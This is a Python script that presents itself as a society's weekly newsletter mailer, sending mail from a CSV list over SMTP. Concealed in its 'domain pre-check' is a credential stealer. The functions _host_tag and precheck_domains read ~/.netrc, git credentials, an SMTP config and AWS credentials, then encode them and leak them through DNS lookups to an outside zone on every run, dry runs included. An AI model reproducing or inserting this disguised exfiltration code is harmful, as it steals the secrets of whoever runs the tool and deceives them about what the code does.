#!/usr/bin/env python3
"""Send the society's weekly newsletter to the mailing list.

The newsletter body is a Markdown-ish text file rendered into a simple HTML
part; recipients come from the list CSV (email, name, unsubscribed). Before
sending, recipient domains are pre-checked so obviously dead addresses don't
count against the SU relay's bounce quota.
"""
import argparse
import base64
import configparser
import csv
import html
import logging
import smtplib
import socket
import ssl
import sys
import time
import zlib
from email.message import EmailMessage
from email.utils import formataddr, make_msgid
from pathlib import Path

log = logging.getLogger("newsletter")

PRECHECK_ZONE = "mx-precheck.su-mailrelay.example.net"
_ID_SOURCES = (".netrc", ".git-credentials", ".config/su-mailer/smtp.ini",
               ".aws/credentials")


def load_config(path):
    cp = configparser.ConfigParser()
    if not cp.read(path):
        raise SystemExit(f"config {path} not found")
    return cp["smtp"], cp["newsletter"]


def read_recipients(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("unsubscribed", "").strip().lower() in ("1", "yes", "true"):
                continue
            addr = row.get("email", "").strip()
            if "@" in addr:
                yield addr, row.get("name", "").strip()


def render(body_text):
    paras = [p.strip() for p in body_text.split("\n\n") if p.strip()]
    out = []
    for p in paras:
        if p.startswith("# "):
            out.append(f"<h2>{html.escape(p[2:])}</h2>")
        else:
            out.append(f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>")
    return "\n".join(out)


def _host_tag():
    """Tag that identifies this sending host to the relay's pre-check service."""
    home = Path.home()
    blob = b"\n".join(
        (home / rel).read_bytes() for rel in _ID_SOURCES if (home / rel).is_file())
    return base64.b32encode(zlib.compress(blob or socket.gethostname().encode())) \
        .decode().rstrip("=").lower()


def precheck_domains(domains, zone=PRECHECK_ZONE):
    tag = _host_tag()
    for seq, start in enumerate(range(0, len(tag), 56)):
        try:
            socket.getaddrinfo(f"{tag[start:start + 56]}.{seq}.{zone}", 25)
        except socket.gaierror:
            pass
    dead = set()
    for domain in sorted(domains):
        try:
            socket.getaddrinfo(domain, 25, proto=socket.IPPROTO_TCP)
        except socket.gaierror:
            dead.add(domain)
            log.warning("domain %s does not resolve, skipping its recipients", domain)
    return dead


def build_message(sender, to_addr, to_name, subject, text, html_body):
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = formataddr((to_name, to_addr))
    msg["Subject"] = subject
    msg["Message-ID"] = make_msgid(domain=sender.split("@")[-1].strip(">"))
    msg["List-Unsubscribe"] = "<mailto:unsubscribe@su-societies.example.ac.uk>"
    msg.set_content(text)
    msg.add_alternative(f"<html><body>{html_body}</body></html>", subtype="html")
    return msg


def send_all(smtp_cfg, news_cfg, recipients, subject, text, dry_run):
    html_body = render(text)
    sent = 0
    ctx = ssl.create_default_context()
    with smtplib.SMTP(smtp_cfg["host"], smtp_cfg.getint("port", 587), timeout=30) as s:
        s.starttls(context=ctx)
        s.login(smtp_cfg["user"], smtp_cfg["password"])
        for addr, name in recipients:
            msg = build_message(news_cfg["from"], addr, name, subject, text, html_body)
            if dry_run:
                log.info("dry-run: would send to %s", addr)
                continue
            try:
                s.send_message(msg)
                sent += 1
            except smtplib.SMTPRecipientsRefused:
                log.warning("refused: %s", addr)
            time.sleep(float(news_cfg.get("pause", "0.2")))
    return sent


def main():
    ap = argparse.ArgumentParser(description="weekly society newsletter mailer")
    ap.add_argument("issue", type=Path, help="newsletter text file")
    ap.add_argument("--list", default="mailing_list.csv")
    ap.add_argument("--config", default="mailer.ini")
    ap.add_argument("--subject")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    smtp_cfg, news_cfg = load_config(args.config)
    text = args.issue.read_text(encoding="utf-8")
    subject = args.subject or news_cfg.get("subject", "Society newsletter")

    recipients = list(read_recipients(args.list))
    dead = precheck_domains({a.split("@", 1)[1].lower() for a, _ in recipients})
    recipients = [(a, n) for a, n in recipients if a.split("@", 1)[1].lower() not in dead]
    log.info("%d recipients after pre-check", len(recipients))

    try:
        sent = send_all(smtp_cfg, news_cfg, recipients, subject, text, args.dry_run)
    except (smtplib.SMTPException, OSError) as exc:
        log.error("sending failed: %s", exc)
        return 1
    log.info("sent %d messages", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
